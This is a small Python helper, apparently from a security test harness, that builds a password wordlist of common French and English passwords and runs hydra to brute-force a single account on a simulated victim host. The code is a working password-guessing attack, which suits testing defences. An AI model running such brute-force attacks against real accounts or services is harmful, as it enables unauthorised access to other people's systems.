"""What several scenarios' attackers do."""

COMMON = ["123456", "password", "azerty", "soleil", "bonjour", "marseille", "doudou", "loulou", "motdepasse", "qwerty", "letmein", "admin",
          "iloveyou", "nicolas", "camille", "chocolat", "coucou", "jetaime", "princesse", "football", "monkey", "dragon", "master",
          "welcome", "shadow", "sunshine", "superman", "azertyuiop", "1234567890", "abc123"]


def wordlist(count, right=None, at=None):
    """`count` wrong passwords; the right one, if given, at position `at`."""
    words = [COMMON[n % len(COMMON)] + ("" if n < len(COMMON) else str(n)) for n in range(count)]
    if right is not None:
        words.insert(at, right)
    return words


def guess(attacker, service, victim, user, words, tasks=4, extra=(), timeout=240):
    """hydra on one account."""
    path = attacker.file("words.txt", "\n".join(words) + "\n")
    port = ["-s", str(extra[0])] if extra and isinstance(extra[0], int) else []
    return attacker.run("hydra", "-I", "-f", "-l", user, "-P", path, "-t", tasks, *port, victim.ip, service,
                        *[x for x in extra if not isinstance(x, int)], check=False, timeout=timeout)
